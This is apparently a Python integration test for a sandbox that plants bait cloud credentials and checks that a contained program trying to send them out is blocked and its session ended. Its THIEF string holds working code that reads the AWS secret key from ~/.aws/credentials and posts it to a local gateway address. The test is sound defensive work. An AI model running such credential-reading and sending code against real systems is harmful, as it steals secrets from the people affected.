"""A program inside carries its bait to the door: the request goes nowhere, and the worker ends the session."""

import asyncio
import os
from pathlib import Path

from activities.bait import lay, seen_outside
from activities.follow import follow
from activities.output import OutputCopy
from adapters.database.pool import Pool
from adapters.database.sessions import SessionStore
from config.clock import SystemClock
from domain.ids import SessionId
from tests.adapters.containers.conftest import BOTH, Bench, Make, bench, docker_engine, make
from tests.support import gateway

__all__ = ["BOTH", "Make", "bench", "docker_engine", "make"]  # the fixtures of both engines

THIEF = (
    "import os, pathlib, time, urllib.request\n"
    "key = [l for l in pathlib.Path(os.environ['HOME'], '.aws/credentials').read_text().split() if len(l) == 40][0]\n"
    "assert key == os.environ['AWS_SECRET_ACCESS_KEY']\n"
    "print('found', flush=True)\n"
    "try: urllib.request.urlopen('http://127.0.0.1:9000/gate', data=key.encode(), timeout=20)\n"
    "except Exception as e: print(e, flush=True)\n"
    "time.sleep(300)\n"
)


async def test_the_session_is_ended_while_it_would_go_on(bench: Bench, tmp_path: Path, pool: Pool) -> None:
    async with gateway.room(tmp_path) as room:
        launch = bench.launch("")
        bait = await asyncio.to_thread(lay, launch.folder, os.urandom)
        await room.open(session=launch.session, bait=bait.values)
        env = {**launch.env, **bait.environment, "HOME": str(launch.folder.claude_config)}
        argv = ("-c", 'exec python3 -c "$THIEF"')
        handle = await bench.engine.start_or_attach(
            launch.model_copy(update={"argv": argv, "env": {**env, "THIEF": THIEF}, "timeout_s": 200})
        )
        copy = OutputCopy(SessionStore(pool), SessionId(launch.session), 1, str, SystemClock())
        async with asyncio.timeout(60):
            state = await follow(bench.engine, handle, copy, SystemClock())
        said = (await bench.output(handle)).decode()
        await room.written()
    assert "found" in said
    assert state.reason == "stopped", (state, said)
    assert seen_outside(launch.folder)
    assert [a for a, _, _ in room.records.audits.values()].count("bait.seen") == 1
    assert room.broker.considered == []
